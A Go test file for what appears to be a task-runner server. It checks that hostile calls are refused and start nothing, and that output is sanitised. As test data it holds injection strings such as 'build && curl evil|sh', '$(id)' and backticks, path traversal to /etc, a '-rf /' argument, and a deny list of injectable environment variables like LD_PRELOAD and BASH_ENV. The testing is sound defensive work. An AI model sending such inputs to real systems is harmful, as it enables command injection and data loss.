package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// What a hostile caller says does no harm: it is refused with its code, nothing is
// started, and the server answers the next call.
func TestHostileTaskCallsAreRefusedAndStartNothing(t *testing.T) {
	t.Parallel()
	w := newProject(t)
	if err := os.Symlink("/etc", filepath.Join(w.root, "out")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("loop", filepath.Join(w.root, "loop")); err != nil {
		t.Fatal(err)
	}
	mkdir(t, w.root+"-evil")
	p := w.tasks()
	calls := map[string][]args{}
	for _, name := range []string{
		"build && curl evil|sh", "build`id`", "build$(id)", "build\nid", "build|tee /x", "test ", "TEST", "test\u200b", "tеst", "build-m ", "build-M", "../test",
	} {
		calls["TASK_NOT_FOUND"] = append(calls["TASK_NOT_FOUND"], args{"unique_name": name})
	}
	for _, dir := range []string{"..", "../root-evil", "/etc", "out", "out/ssl", "a/../../etc", w.root + "-evil", w.root + "2", "/proc/self/cwd"} {
		calls["PATH_OUTSIDE_ROOT"] = append(calls["PATH_OUTSIDE_ROOT"], args{"unique_name": "test", "cwd": dir})
	}
	for _, dir := range []string{"loop", "Makefile", "nowhere", "%2e%2e%2fetc", "．．/etc", strings.Repeat("x", 300), "file:///etc"} {
		calls["INVALID_INPUT"] = append(calls["INVALID_INPUT"], args{"unique_name": "test", "cwd": dir})
	}
	for _, a := range [][]string{{"-rf", "/"}, {"--eval=x"}, {"-f/etc/passwd"}, {"SHELL=/bin/evil"}, {".SHELLFLAGS=-x"}, {"MAKEFLAGS=-n"}, {"MAKE=x"}, {"V=${X}"}, {"V=`id`"}, {"secret"}} {
		code := "ARGUMENT_REFUSED"
		if a[0] == "secret" {
			code = "NOT_ALLOWLISTED" // a further target, which is denied
		}
		calls[code] = append(calls[code], args{"unique_name": "test", "args": a})
	}
	for _, name := range []string{
		"LD_PRELOAD", "LD_LIBRARY_PATH", "DYLD_INSERT_LIBRARIES", "BASH_ENV", "ENV", "SHELLOPTS", "IFS", "NODE_OPTIONS", "RUBYOPT", "PERL5OPT", "PYTHONSTARTUP",
		"PYTHONPATH", "GIT_SSH_COMMAND", "GIT_DIR", "PATH", "HOME", "RUSTC_WRAPPER", "npm_config_script_shell", "MAKEFLAGS",
	} {
		calls["ENV_FORBIDDEN"] = append(calls["ENV_FORBIDDEN"], args{"unique_name": "test", "env": args{name: "x"}})
	}
	many := make([]string, 100_000)
	calls["SCHEMA_VALIDATION_FAILED"] = []args{
		{"unique_name": "test", "args": many}, {"unique_name": "test", "args": []string{strings.Repeat("x", 2<<20)}}, {"unique_name": ""},
		{"unique_name": strings.Repeat("x", 600)}, {"unique_name": "test", "env": []string{"A=b"}}, {"unique_name": 7},
	}
	for code, all := range calls {
		for _, a := range all {
			r := p.refused("task_start", a, code)
			if len(r.Message) > 2000 || strings.Contains(r.Message, w.root) {
				t.Errorf("%s is told in %d bytes: %.200s", code, len(r.Message), r.Message)
			}
		}
	}
	if jobs := p.taskJobs(); len(jobs) != 0 {
		t.Errorf("something was started: %+v", jobs)
	}
	if _, err := os.Stat(filepath.Join(w.state, "procs")); err == nil {
		if left, _ := filepath.Glob(filepath.Join(w.state, "procs", "*")); len(left) > 0 {
			t.Errorf("%v", left)
		}
	}
}

// Arguments are an argv: nothing in them is for a shell, and an empty one is one.
func TestArgumentsReachTheTaskAsTheyAre(t *testing.T) {
	t.Parallel()
	w := newProject(t)
	script := filepath.Join(w.root, "show.sh")
	write(t, script, "#!/bin/sh\nfor a in \"$@\"; do echo \"[$a]\"; done\n")
	given := []string{"", "$(id)", "a b", "`id`", ";reboot", "*", "'", `"`, "é\u200b", "line\nbreak"}
	out := w.tasks().must("task_start", args{"unique_name": "show", "args": given})
	want := "[" + strings.Join(given, "]\n[") + "]\n"
	if got := field(t, out, "initial_output"); got != want {
		t.Errorf("%q, want %q", got, want)
	}
}

// What a task writes cannot leave its text: escapes, carriage returns, NULs and what is
// no UTF-8 are made readable.
func TestOutputIsMadeReadable(t *testing.T) {
	t.Parallel()
	w := newProject(t)
	write(t, filepath.Join(w.root, "noise.sh"),
		"#!/bin/sh\nprintf '\\033[31mred\\033[0m\\n10%%\\r50%%\\r100%%\\n\\000nul\\n\\377bad\\n\\033]0;title\\007x\\n{\"jsonrpc\":\"2.0\"}\\n'\n")
	p := w.tasks()
	out := p.must("task_start", args{"unique_name": "noise"})
	var lines []string
	if err := json.Unmarshal(p.must("task_output", args{"pid": p.taskJobs()[0].PID}), &struct{ Lines *[]string }{&lines}); err != nil {
		t.Fatal(err)
	}
	want := []string{"red", "100%", "nul", "\uFFFDbad", "x", `{"jsonrpc":"2.0"}`}
	if !slices.Equal(lines, want) || field(t, out, "initial_output") != strings.Join(want, "\n")+"\n" {
		t.Errorf("%q and %q", lines, field(t, out, "initial_output"))
	}
}
